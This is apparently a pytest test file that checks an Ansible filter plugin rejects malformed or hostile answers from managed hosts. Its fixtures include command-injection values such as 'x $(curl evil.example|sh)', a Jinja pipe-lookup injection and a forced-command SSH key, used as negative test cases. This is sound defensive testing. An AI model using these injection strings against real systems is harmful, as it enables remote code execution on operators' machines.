"""plugins/filter/answers.py: what a host says in the place of our programs goes no further."""

import base64
import json
import re
import runpy
import subprocess
import sys

import pytest
from ansible.errors import AnsibleFilterError
from support import ansible

ANSWERS = runpy.run_path(str(ansible.ROOT / "plugins/filter/answers.py"))
answer_of, complaint_of, public_key_of = (
    ANSWERS[name] for name in ("answer_of", "complaint_of", "public_key_of")
)
HOLDER = {
    "id": "0a1b2c3d", "purpose": "migrate.yml", "user": "ops", "host": "laptop", "since": 1.5,
    "seen": 2, "process": {"place": "laptop 12", "boot": "x", "pid": 7, "started": "123"},
}  # fmt: skip
FIT = {
    "lock": {"mine": False, "holder": HOLDER},
    "description of what is there": {
        "file": {"size": 1, "block": 4096, "digests": "AAAA"},
        "folders": {"local_stats": {"a/ü b.txt": [5, -1]}}},
    "freeze": {"sha256": "0a" * 32, "frozen_sha256": "0b" * 32},
    "clock and version": {"now": 1.8e9, "zone": "+0100", "python": "3.11.2", "system": "Debian"},
    "health gate": {"healthy": True, "reason": "", "pid": "12", "ready": 1.5, "serves_since": 0},
    "connections of the bot": {"ports": [40001], "alive": True},
    "checks": [{"id": "tls", "check": "TLS is on", "ok": None, "said": "x"}],
}  # fmt: skip
UNFIT = [
    ("lock", {"mine": 1, "holder": None}),
    ("lock", {"holder": None}),
    ("lock", {"mine": True}),
    ("lock", []),
    ("lock", {"mine": False, "holder": HOLDER | {"id": "x; curl evil | sh"}}),
    ("lock", {"mine": False, "holder": HOLDER | {"id": "x\n"}}),
    ("lock", {"mine": False, "holder": HOLDER | {"since": 1e300}}),
    ("lock", {"mine": False, "holder": HOLDER | {"seen": float("nan")}}),
    ("lock", {"mine": False, "holder": HOLDER | {"process": "1"}}),
    ("freeze", {"sha256": "0a" * 32, "frozen_sha256": "{{ lookup('pipe', 'id') }}"}),
    ("freeze", {"sha256": "0a" * 32, "frozen_sha256": "0a" * 32 + "\n"}),
    ("description of what is there", {"file": {"size": -1, "block": 1, "digests": ""},
                                      "folders": {}}),
    ("description of what is there", {"file": {"size": 1, "block": 1, "digests": ""},
                                      "folders": {"a\nb": {}}}),
    ("clock and version", FIT["clock and version"] | {"now": float("inf")}),
    ("clock and version", FIT["clock and version"] | {"python": "x"}),
    ("clock and version", FIT["clock and version"] | {"system": "x" * 100_001}),
    ("connections of the bot", {"ports": ["40001 OR true"], "alive": True}),
    ("checks", []),
    ("checks", [FIT["checks"][0] | {"ok": 0}]),
    ("checks", [FIT["checks"][0] | {"ok": "yes"}]),
    ("checks", [FIT["checks"][0] | {"said": ["x"]}]),
]  # fmt: skip


@pytest.mark.parametrize("what", FIT)
def test_what_our_programs_say_is_taken(what):
    assert answer_of(json.dumps(FIT[what]), "vps", what) == FIT[what]
    assert complaint_of(json.dumps(FIT[what]), "vps", what) == ""


def test_lock_says_what_is_taken(tmp_path):
    program = ansible.ROOT / "playbooks/files/lock.py"
    claim = {key: HOLDER[key] for key in ("id", "purpose", "user", "host", "process")}
    for argv in (["take", json.dumps(claim)], ["keep", HOLDER["id"]], ["release", HOLDER["id"]]):
        said = subprocess.run(
            [sys.executable, program, argv[0], tmp_path / "lock", argv[1]],
            check=True, capture_output=True, text=True,
        ).stdout  # fmt: skip
        assert answer_of(said, "vps", "lock") == json.loads(said)


@pytest.mark.parametrize(("what", "said"), UNFIT)
def test_what_no_program_says_names_the_host_and_is_not_used(what, said):
    with pytest.raises(AnsibleFilterError) as refused:
        answer_of(json.dumps(said), "hostile-vps", what)
    message = str(refused.value)
    assert message.startswith(
        f"hostile-vps gave an answer that no program of this repository gives ({what})"
    )
    assert len(message) < 500
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", message)
    assert complaint_of(json.dumps(said), "hostile-vps", what) == message


@pytest.mark.parametrize(
    "said",
    ["", "x", "\x1b[2J", None, ["{}"], '{"mine": true, "mine": false, "holder": null}',
     "[" * 100_000, '{"mine": NaN}', "1" * 10_000, " " * (64 * 2**20 + 1)],
)  # fmt: skip
def test_what_is_no_answer_at_all_is_refused_too(said):
    assert complaint_of(said, "hostile-vps", "lock").startswith("hostile-vps gave an answer")


def test_a_host_says_nothing_beside_what_is_asked():
    said = [FIT["checks"][0] | {"place": "control machine", "part": "safety"}]
    assert answer_of(json.dumps(said), "vps", "checks") == FIT["checks"]


BODY = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + b"k" * 32).decode()
KEY = f"ssh-ed25519 {BODY}"


@pytest.mark.parametrize("text", [KEY, f"{KEY} root@vps\n", f"{KEY} signs backups of a on b"])
def test_one_key_is_one_key(text):
    assert public_key_of(text, "vps") == text.strip()


@pytest.mark.parametrize(
    "text",
    ["", None, f"{KEY} x\n* {KEY}", f"{KEY}\r{KEY}", f'command="sh" {KEY}', f"{KEY} \x1b[2J",
     f"@cert-authority * {KEY}", KEY.replace("ssh-ed25519", "ssh-rsa"),
     f"ssh-ed25519 {BODY[:-8]}x\x85", "ssh-ed25519 AAAAB3NzaC1yc2E="],
)  # fmt: skip
def test_anything_else_is_trusted_by_nobody(text):
    with pytest.raises(AnsibleFilterError, match="hostile-vps gives as its public SSH key"):
        public_key_of(text, "hostile-vps")


# What stays on the host that said it, or on the control machine; with what judges it there.
BARE = {
    "playbooks/audit.yml": 3,  # a report about that host alone, in a template
    "playbooks/alert_test.yml": 3,  # printed
    "playbooks/backup.yml": 3,  # the stamp's form is asserted beside it
    "playbooks/deploy/audit_sql.yml": 1,  # goes back to the same host
    "playbooks/deploy/database.yml": 2,  # the same
    "playbooks/deploy/done.yml": 2,  # the same
    "playbooks/deploy/failed.yml": 1,  # the same
    "playbooks/migrate/fill.yml": 1,  # the audit's findings, printed
    "playbooks/migrate/first_backup.yml": 1,  # whether a backup is made
    "playbooks/migrate/read_state.yml": 5,  # tasks/check_record.yml
    "playbooks/preflight/bot.yml": 1,  # compared
    "playbooks/rollback/read_own_evidence.yml": 2,  # this machine's file, tasks/check_record.yml
    "playbooks/site/environment.yml": 2,  # goes back to the same host
    "playbooks/templates/site_summary.txt.j2": 3,  # printed
    "playbooks/verify.yml": 1,  # of verify/control.py, on this machine
}


def test_every_other_answer_is_looked_at():
    found = {}
    for path in (ansible.ROOT / "playbooks").rglob("*"):
        if path.suffix in (".yml", ".j2"):
            number = path.read_text().count("| from_json")
            if number:
                found[str(path.relative_to(ansible.ROOT))] = number
    assert found == BARE


def test_every_answer_that_is_asked_for_has_a_form():
    asked = set()
    for path in [
        *(ansible.ROOT / "playbooks").rglob("*"),
        *(ansible.ROOT / "group_vars").rglob("*"),
    ]:
        if path.suffix in (".yml", ".j2"):
            asked |= set(
                re.findall(r"(?:answer|complaint)_of\([^,]+, '([^']+)'\)", path.read_text())
            )
    assert asked - set(ANSWERS["ANSWERS"]) == set()


# ------------------------------------------------------------------- carried through, with a host


def play_against(tmp_path, answer, *tasks):
    """Run tasks on a host whose python3 gives this answer to every program."""
    programs = tmp_path / "programs"
    programs.mkdir()
    (programs / "answer").write_text(answer)
    (programs / "python3").write_text(f"#!/bin/sh\ncat >/dev/null\ncat {programs}/answer\n")
    (programs / "python3").chmod(0o755)
    host = {"ansible_connection": "local", "ansible_python_interpreter": sys.executable,
            "ansible_become": False, "lock_directory": "/nowhere", "lock_break": "",
            "lock_purpose": "migrate.yml", "repository_directory": str(ansible.ROOT)}  # fmt: skip
    inventory = {"bot": {"hosts": {"hostile-vps": host}}}
    (tmp_path / "hosts.json").write_text(json.dumps({"all": {"children": inventory}}))
    play = {"hosts": "bot", "gather_facts": False, "tasks": list(tasks)}
    (tmp_path / "play.yml").write_text(json.dumps([play]))
    return ansible.play(
        tmp_path / "play.yml",
        inventory=tmp_path / "hosts.json",
        environment={"PATH": f"{programs}:/usr/bin:/bin"},
    )


def test_a_lock_holder_puts_no_words_into_the_operators_command(tmp_path):
    said = {"mine": False, "holder": HOLDER | {"id": "x $(curl evil.example|sh)"}}
    lock = {"include_tasks": str(ansible.ROOT / "playbooks/tasks/lock.yml")}
    done = play_against(tmp_path, json.dumps(said), lock)
    words = ansible.words(done)
    assert done.returncode == 2
    assert (
        "hostile-vps gave an answer that no program of this repository gives (lock): holder.id"
        in words
    )
    assert "lock_break=x" not in words
    assert "Traceback" not in words
